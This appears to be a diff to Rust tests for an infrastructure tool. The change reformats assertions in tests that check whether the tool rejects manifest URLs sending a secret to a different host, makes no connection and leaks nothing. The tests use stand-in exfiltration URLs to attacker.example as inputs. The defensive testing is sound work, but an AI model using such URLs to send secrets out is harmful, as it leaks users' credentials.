@@ -20,7 +20,9 @@ fn stage(url: &str) -> Stage {
 fn a_secret_in_a_url_of_another_host_is_an_error_offline() {
     let stage = stage("https://attacker.example/in?secret=${secret.crm}");
     let said = stage.run(&["validate"]).told();
-    assert_data_eq!(said, str![[r#"
+    assert_data_eq!(
+        said,
+        str![[r#"
 exit 65
 --- stdout
 --- stderr
@@ -32,7 +34,8 @@ error[forbidden-host]: secret `crm` may not go to this host; its `hosts` are crm
 
 error: the manifest has 1 error
 
-"#]]);
+"#]]
+    );
     for verb in [&["plan"][..], &["drift"], &["apply", "--auto-approve"]] {
         // The secret is not even needed.
         assert_eq!(stage.run(verb).code, 65, "{verb:?}");
@@ -44,7 +47,9 @@ error: the manifest has 1 error
 fn a_secret_that_is_a_url_of_another_host_is_an_error_before_any_request_and_says_nothing_of_it() {
     let stage = stage("${secret.crm}").env("CRM", "https://attacker.example/in?x=s3cr3t");
     let run = stage.run(&["plan"]);
-    assert_data_eq!(run.told(), str![[r#"
+    assert_data_eq!(
+        run.told(),
+        str![[r#"
 exit 65
 --- stdout
 --- stderr
@@ -56,7 +61,8 @@ error[forbidden-host]: with its secrets filled in this URL leads elsewhere: secr
 
 error: the manifest has 1 error
 
-"#]]);
+"#]]
+    );
     assert_eq!(stage.emulator().connections(), 0);
     assert!(!run.told().contains("attacker"));
     let json = stage.run(&["apply", "--auto-approve", "--format", "json"]);
